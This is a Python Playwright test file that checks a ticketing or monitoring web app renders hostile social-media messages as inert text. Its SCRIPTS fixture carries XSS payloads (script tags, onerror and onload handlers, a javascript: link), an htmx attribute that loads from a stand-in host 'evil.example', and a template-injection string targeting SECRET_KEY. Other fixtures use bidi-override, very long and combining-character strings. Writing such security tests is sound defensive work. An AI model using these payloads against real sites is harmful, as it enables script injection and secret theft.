"""What strangers write is text, whatever they write. The watch of conftest.py objects to any
dialog, refused script or request to elsewhere on the way."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.journeys.conftest import Enter
from tests.journeys.product import Product
from tests.journeys.test_people_entrance import scrolls_sideways

SCRIPTS = (
    "@rocdewaterlanden <script>alert(1)</script><img src=x onerror=alert(2)>"
    "<svg onload=alert(3)><a href='javascript:alert(4)'>rooster</a>"
    "<div hx-get='https://evil.example/' hx-trigger='load'></div> {{ settings.SECRET_KEY }}"
)
ARABIC = "@rocdewaterlanden \u202eretsoor ‮ هل يوجد جدول للعطلات؟ \u2066 rooster"
ENDLESS = "@rocdewaterlanden rooster " + "a" * 50_000
COMBINING = "@rocdewaterlanden rooster Z" + "\u0321\u034d\u0489" * 400 + " einde"

TEXTS = {"scripts": SCRIPTS, "direction": ARABIC, "endless": ENDLESS, "combining": COMBINING}


@pytest.mark.parametrize("kind", TEXTS)
def test_a_hostile_message_is_only_text(product: Product, enter: Enter, kind: str) -> None:
    ticket = product.hear(TEXTS[kind], platform="facebook", author="<b>Kwaad</b>", place="feed")
    page = enter("bas")

    page.locator(f"#open-{ticket.pk}").click()

    expect(page.locator("#ticket .said-text").first).to_contain_text("rooster")
    assert not scrolls_sideways(page)
    assert page.locator("#ticket .said-text :is(script, img, svg, a, div, b)").count() == 0
    page.goto("/monitoring/")
    expect(page.locator("main")).to_contain_text("rooster")
    assert not scrolls_sideways(page)


def test_a_hostile_message_of_50000_characters_does_not_slow_the_list(
    product: Product, enter: Enter
) -> None:
    product.hear(ENDLESS, platform="facebook", place="feed")

    page = enter("bas")

    row = page.locator(".ticket-row").bounding_box()
    assert row is not None
    assert row["height"] < 160
